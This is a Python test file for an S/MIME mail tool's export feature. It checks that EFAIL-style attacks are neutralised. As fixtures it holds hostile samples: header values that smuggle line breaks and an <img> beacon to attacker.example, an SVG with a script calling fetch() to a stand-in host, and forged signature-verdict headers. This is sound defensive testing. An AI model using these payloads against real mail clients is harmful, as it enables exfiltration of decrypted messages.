"""core.export: what ``export`` and ``show`` write is a message whose structure is ours.

The hostile cases are the EFAIL-by-export class: a header value that decodes (RFC 2047) to CR,
LF or NUL, a raw field holding a bare CR, a line that is no field, an incoming verdict field,
and active HTML in decrypted content that nothing authenticates.
"""

from __future__ import annotations

import email
import email.policy

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smime_companion.core.cms_algorithms import CONTENT_CIPHERS
from smime_companion.core.export import (
    AEAD_CIPHER_NAMES,
    export_message,
    header_value,
    is_integrity_protected,
)

OUTER = (
    b"From: outer@example.org\r\nTo: bob@example.org\r\nSubject: ...\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMIIB...\r\n"
)
SECRET = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe launch code is 0000.\r\n"
VERDICT = (
    ("X-SMIME-Companion-Decryption", "ok"),
    ("X-SMIME-Companion-Signature", "none"),
)
INJECTION = "Hi\r\nContent-Type: text/html\r\n\r\n<img src='http://attacker.example/?"


def _fields(out: bytes) -> list[tuple[str, str]]:
    head = out.split(b"\n\n", 1)[0]
    return email.message_from_bytes(head + b"\n\n", policy=email.policy.compat32).items()


def test_export_puts_protected_headers_and_verdict_over_the_decrypted_content() -> None:
    raw = (
        b"From: outer@example.org\r\nTo: bob@example.org\r\nSubject: ...\r\n"
        b"Received: from mx\r\n  by mx2\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMIIB...\r\n"
    )
    content = (
        b"Content-Type: text/plain; charset=utf-8\r\nX-Inner: dropped\r\n\r\nThe real text\r\n"
    )
    effective = (("From", "alice@example.org"), ("To", "bob@example.org"), ("Subject", "Real"))
    verdict = (("X-SMIME-Companion-Signature", "valid"),)
    out = export_message(raw, content, effective, verdict)
    assert b"\r\n" not in out
    msg = email.message_from_bytes(out)
    assert msg.get_all("Subject") == ["Real"] and msg["From"] == "alice@example.org"
    assert msg["Received"] == "from mx\n  by mx2"
    assert msg["X-SMIME-Companion-Signature"] == "valid"
    assert msg.get_content_type() == "text/plain" and msg["X-Inner"] is None
    assert msg.get_payload() == "The real text\n"


def test_export_of_an_unopened_message_keeps_it_as_fetched_below_the_verdict() -> None:
    raw = b"Subject: sealed\r\nContent-Type: application/pkcs7-mime\r\n\r\nMIIB\r\n"
    out = export_message(raw, None, (), (("X-SMIME-Companion-Decryption", "no-key"),))
    assert out == (
        b"X-SMIME-Companion-Decryption: no-key\nSubject: sealed\n"
        b"Content-Type: application/pkcs7-mime\n\nMIIB\n"
    )


@pytest.mark.parametrize("name", ["Subject", "From", "To", "Cc", "Date", "Message-ID"])
def test_a_decoded_header_with_line_breaks_cannot_add_fields_or_start_the_body(name) -> None:
    out = export_message(OUTER, SECRET, ((name, INJECTION),), VERDICT)
    msg = email.message_from_bytes(out)
    assert msg.get_all("Content-Type") == ["text/plain; charset=utf-8"]
    assert msg.get_payload() == "The launch code is 0000.\n"
    assert not msg.defects
    (value,) = msg.get_all(name)
    assert "\n" not in str(email.header.make_header(email.header.decode_header(value)))


@pytest.mark.parametrize("char", ["\r", "\n", "\x00", "\x0b", "\x0c", "\x1b", "\x85", "\u2028"])
def test_no_control_character_or_line_break_survives_in_a_written_value(char: str) -> None:
    for name in ("Subject", "From"):
        written = header_value(name, f"a{char}b")
        assert char not in written and "\r" not in written and "\x00" not in written
        assert written.replace("\n ", " ").count("\n") == 0  # at most folding, never a new field


def test_a_non_ascii_subject_is_rfc2047_encoded_and_reads_back_the_same() -> None:
    written = header_value("Subject", "Grüße =?utf-8?q?=0A?= aus Wien")
    assert written.isascii()
    decoded = str(email.header.make_header(email.header.decode_header(written)))
    assert decoded == "Grüße =?utf-8?q?=0A?= aus Wien"


def test_a_bare_cr_or_nul_in_a_copied_field_does_not_split_it() -> None:
    raw = (
        b"Received: from mx\rX-SMIME-Companion-Signature: valid\r\n"
        b"X-Note: a\x00b\rContent-Type: text/html\r\n" + OUTER
    )
    out = export_message(raw, SECRET, (), VERDICT)
    assert b"\r" not in out and b"\x00" not in out
    msg = email.message_from_bytes(out)
    assert msg.get_all("X-SMIME-Companion-Signature") == ["none"]
    assert msg.get_all("Content-Type") == ["text/plain; charset=utf-8"]


def test_a_line_that_is_no_field_is_dropped_rather_than_ending_the_header() -> None:
    raw = b"X-Ok: 1\r\n<img src='http://attacker.example/?\r\n continued\r\nX-Also: 2\r\n" + OUTER
    out = export_message(raw, SECRET, (), VERDICT)
    assert b"attacker" not in out and b"continued" not in out
    msg = email.message_from_bytes(out)
    assert msg["X-Also"] == "2" and msg.get_content_type() == "text/plain" and not msg.defects


def test_incoming_verdict_fields_are_dropped_and_ours_come_first() -> None:
    raw = (
        b"X-SMIME-Companion-Signature: valid\r\nx-smime-companion-signer: ceo@bank.example\r\n"
        b"X-Smime-Companion-Decryption: ok\r\n" + OUTER
    )
    for content in (SECRET, None):
        out = export_message(raw, content, (), VERDICT)
        names = [name.lower() for name, _ in _fields(out)]
        assert names[:2] == ["x-smime-companion-decryption", "x-smime-companion-signature"]
        assert names.count("x-smime-companion-signature") == 1
        assert "x-smime-companion-signer" not in names
        assert email.message_from_bytes(out)["X-SMIME-Companion-Signature"] == "none"


HTML_MESSAGE = (
    b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<p>The launch code is <b>0000</b>.</p><img src='http://attacker.example/x'>\r\n"
    b"--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline\r\n\r\n"
    b"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://a.example')</script></svg>\r\n"
    b"--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; "
    b'filename="r\xc3\xa9port\r\n .pdf"\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--b--\r\n"
)


def test_content_that_is_not_integrity_protected_is_exported_without_active_html() -> None:
    out = export_message(OUTER, HTML_MESSAGE, (), VERDICT, integrity_protected=False)
    msg = email.message_from_bytes(out, policy=email.policy.default)
    types = [part.get_content_type() for part in msg.walk()]
    assert types == ["multipart/mixed", "text/plain", "application/octet-stream", "application/pdf"]
    assert b"<img" not in out and b"attacker" not in out
    text = next(p for p in msg.walk() if p.get_content_type() == "text/plain").get_content()
    assert "The launch code is 0000." in text
    pdf = next(p for p in msg.walk() if p.get_content_type() == "application/pdf")
    assert pdf.get_filename() == "réport .pdf" and pdf.get_content() == b"%PDF-1.4\n"
    assert msg["X-SMIME-Companion-Content"].startswith("rebuilt without active content")


def test_integrity_protected_content_keeps_its_html() -> None:
    out = export_message(OUTER, HTML_MESSAGE, (), VERDICT, integrity_protected=True)
    assert b"<img src='http://attacker.example/x'>" in out
    assert b"X-SMIME-Companion-Content" not in out


@pytest.mark.parametrize(
    ("decryption", "signature", "cipher", "warnings", "expected"),
    [
        ("ok", "none", "aes-256-cbc", ("not-integrity-protected",), False),
        ("ok", "invalid", "aes-256-cbc", (), False),  # CBC, signature broken by a gadget
        ("ok", "untrusted", "des-ede3-cbc", (), False),
        ("ok", "valid", "aes-256-cbc", (), True),
        ("ok", "none", "aes-256-gcm", (), True),
        ("ok", "none", "aes-128-ccm", (), True),
        ("none", "none", None, (), True),  # nothing decrypted: no secret to leak
        ("none", "invalid", None, (), True),
        ("no-key", "none", None, (), True),
        ("ok", "valid", "aes-256-gcm", ("not-integrity-protected",), False),
    ],
)
def test_what_counts_as_integrity_protected(decryption, signature, cipher, warnings, expected):
    assert is_integrity_protected(decryption, signature, cipher, warnings) is expected


def test_every_authenticated_cipher_we_decrypt_counts_as_integrity_protected() -> None:
    # export keeps its own list (core.cms_algorithms would load asn1crypto into `show`).
    assert set(AEAD_CIPHER_NAMES) == {c.name for c in CONTENT_CIPHERS.values() if c.aead}


@given(st.text(max_size=80), st.sampled_from(["Subject", "From", "To", "Message-ID"]))
def test_any_decoded_value_stays_inside_its_own_field(value: str, name: str) -> None:
    out = export_message(OUTER, SECRET, ((name, value),), VERDICT)
    msg = email.message_from_bytes(out)
    assert msg.get_payload() == "The launch code is 0000.\n"
    assert msg.get_all("Content-Type") == ["text/plain; charset=utf-8"]
    assert len(msg.get_all(name) or []) == 1
    assert msg.keys()[0] == "X-SMIME-Companion-Decryption"


def test_a_body_sent_as_text_and_html_is_exported_once_without_active_content() -> None:
    both = (
        b'Content-Type: multipart/alternative; boundary="a"\r\n\r\n--a\r\n'
        b"Content-Type: text/plain\r\n\r\nSee you at noon.\r\n--a\r\n"
        b"Content-Type: text/html\r\n\r\n<p>See you at <b>noon</b>.</p>\r\n--a--\r\n"
    )
    out = export_message(OUTER, both, (), VERDICT, integrity_protected=False)
    msg = email.message_from_bytes(out, policy=email.policy.default)
    assert [p.get_content_type() for p in msg.walk()] == ["multipart/mixed", "text/plain"]
    assert next(msg.iter_parts()).get_content() == "See you at noon."


def test_an_html_body_split_around_a_picture_is_exported_as_its_text_once() -> None:
    from tests.test_text import APPLE_SPLIT

    out = export_message(OUTER, APPLE_SPLIT, (), VERDICT, integrity_protected=False)
    msg = email.message_from_bytes(out, policy=email.policy.default)
    assert [p.get_content_type() for p in msg.walk()] == [
        "multipart/mixed",
        "text/plain",
        "image/jpeg",
    ]
    text = next(msg.iter_parts()).get_content()
    assert text.count("view from the hotel") == 1 and text.count("Wish you were here") == 1


def test_a_text_file_sent_inline_is_exported_as_text_under_its_name() -> None:
    from tests.test_text import text_file_message

    content = text_file_message("inline; filename=minutes.txt")
    out = export_message(OUTER, content, (), VERDICT, integrity_protected=False)
    msg = email.message_from_bytes(out, policy=email.policy.default)
    note, file = msg.iter_parts()
    assert note.get_filename() is None and file.get_filename() == "minutes.txt"
    assert file.get_content_disposition() == "inline"
    assert file.get_content() == "Quorum reached; the walrus budget passed."
